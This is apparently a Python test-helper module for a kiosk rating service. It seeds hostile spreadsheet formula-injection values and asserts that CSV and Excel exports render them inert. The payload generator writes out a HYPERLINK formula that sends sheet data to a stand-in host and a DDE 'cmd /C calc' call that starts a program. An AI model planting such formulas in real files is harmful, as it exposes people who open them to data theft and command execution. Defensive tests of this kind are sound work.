"""Stored text that a spreadsheet would run as a formula, and the checks that no export lets it run.

Every text a report or download shows (agency, counter and officer names, an officer code a kiosk sent, procedure
codes and names, field names, comments) starts, in one agency or another, with each way a cell can begin a
formula: '=', '+', '-', '@', a tab, a carriage return, a line feed, or '=' after spaces or a double quote.
The payloads are what an attacker would send: a HYPERLINK that leaks the sheet, a DDE call that starts a program.

The checks are written here on their own, not with kiosk.domain.spreadsheet, so a mistake in the rule cannot hide
itself: a cell is dangerous when it starts with a tab, CR or LF, or with = + - @ after any spaces or quotes.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

if TYPE_CHECKING:
    from sqlalchemy import Engine

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")
DAY = date(2025, 11, 10)
# How each payload begins: each way a spreadsheet may be led into reading a formula.
LEADS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t=", "cr": "\r=", "lf": "\n=",
         "spaces": "  =", "quote": '"='}
FORMULA_FIRST = ("=", "+", "-", "@")


def payload(what: str, lead: str, *, dde: bool = False) -> str:
    """Text starting with `lead`: a link that would send the sheet away, or a DDE call that starts a program."""
    if dde:
        return f"{lead}cmd|' /C calc {what}'!A0"
    return f'{lead}HYPERLINK("//x.example/{what}","{what}")'


def dangerous(text: str) -> bool:
    """Would a spreadsheet take this cell for a formula (as the exports must never let it)?"""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    # A single quote first is the CSV cure itself: Excel shows the text after it.
    return text[:1] != "'" and text.lstrip(' \t\r\n"')[:1] in FORMULA_FIRST


@dataclass
class Hostile:
    """What was stored: one agency per lead (code A0, A1 …), each with one counter, officer and procedure."""

    agencies: list[str] = field(default_factory=list)
    devices: list[str] = field(default_factory=list)            # each agency's kiosk, by agency
    texts: dict[str, list[str]] = field(default_factory=dict)   # kind of text -> its hostile values, by agency

    def all_texts(self) -> list[str]:
        """Every hostile value stored."""
        return [text for values in self.texts.values() for text in values]


def seed(engine: Engine) -> Hostile:
    """Store the hostile data set: for each lead an agency, its counter, two officers, a procedure and ratings."""
    # The server's code is loaded only here, so the device's tests can use the checks without it.
    from sqlalchemy import insert, update

    from sync.server import db, registry
    from sync.server.devices import enrolment
    from sync.server.models import AGENCY, COUNTER, OFFICER, PROCEDURE_INFO
    from tests.test_server_reports import add_rating

    made = Hostile()
    kinds = ("agency", "counter", "officer", "ocode", "pcode", "procedure", "field", "comment")
    made.texts = {kind: [] for kind in kinds}
    moment = datetime.combine(DAY, time(9), ZONE)
    for n, (name, lead) in enumerate(LEADS.items()):
        code = f"A{n}"
        text = {kind: payload(f"{kind}{n}", lead, dde=n % 2 == 1) for kind in kinds}
        for kind in kinds:
            made.texts[kind].append(text[kind])
        # The registry tidies whitespace in names, so the exact text goes in afterwards, as a hand-edited or
        # restored database may hold it.
        registry.add_agency(engine, code, {"name": f"Cơ quan {name}", "parent": "Tỉnh Thử nghiệm"})
        registry.add_counter(engine, code, "Q1", f"Quầy {name}", [])
        registry.add_officer(engine, code, "CB1", f"Cán bộ {name}")
        device_id = enrolment.add_device(engine, code, "Q1", timedelta(hours=1)).device_id
        with db.writing(engine) as conn:
            agency_id = conn.execute(AGENCY.select().where(AGENCY.c.code == code)).one().id
            conn.execute(update(AGENCY).where(AGENCY.c.id == agency_id).values(name=text["agency"]))
            conn.execute(update(COUNTER).where(COUNTER.c.agency_id == agency_id).values(name=text["counter"]))
            conn.execute(update(OFFICER).where(OFFICER.c.agency_id == agency_id).values(name=text["officer"]))
            conn.execute(insert(PROCEDURE_INFO).values(code=text["pcode"], name=text["procedure"],
                                                       field_code=f"F{n}", field_name=text["field"]))
        at = (moment + timedelta(minutes=n)).astimezone(UTC)
        add_rating(engine, device_id, at, 1, "CB1", text["pcode"], q_access=2, harassment=True,
                   comment=text["comment"])
        add_rating(engine, device_id, at + timedelta(seconds=30), 5, text["ocode"], None)  # a code a kiosk sent
        made.agencies.append(code)
        made.devices.append(device_id)
    return made


def csv_rows(content: bytes | str) -> list[list[str]]:
    """A CSV export's rows (after the BOM, if any), line breaks inside cells kept as written."""
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_csv_inert(rows: list[list[str]], expected: Iterable[str]) -> None:
    """No cell would run as a formula, and each expected hostile text is there, behind one single quote."""
    cells = [cell for row in rows for cell in row]
    assert cells, "an empty export proves nothing"
    running = [cell for cell in cells if dangerous(cell)]
    assert running == [], f"cells a spreadsheet would run: {running!r}"
    for text in expected:
        assert any(cell.startswith("'" + text) for cell in cells), f"{text!r} is missing or changed"


def xlsx_cells(book: Any) -> list[Any]:
    """Every cell of every sheet of a workbook read back with openpyxl."""
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_inert(book: Any, expected: Iterable[str]) -> None:
    """No cell is a formula, every formula-like text is a string cell with Excel's quote prefix, and each expected
    hostile text is there exactly as stored (no visible quote added)."""
    cells = xlsx_cells(book)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"formulas in the workbook: {formulas!r}"
    bare = [(cell.parent.title, cell.coordinate, cell.value) for cell in cells
            if isinstance(cell.value, str) and dangerous(cell.value)
            and not (cell.data_type == "s" and cell.quotePrefix)]
    assert bare == [], f"formula-like text without the quote prefix: {bare!r}"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    for text in expected:
        # openpyxl on the standard library's XML writes a carriage return bare, which XML reads back as a line feed
        # (line-end normalisation, as Excel does); with lxml installed it escapes it and it reads back as written.
        assert any(value.startswith((text, text.replace("\r", "\n"))) for value in texts), \
            f"{text!r} is missing or changed"
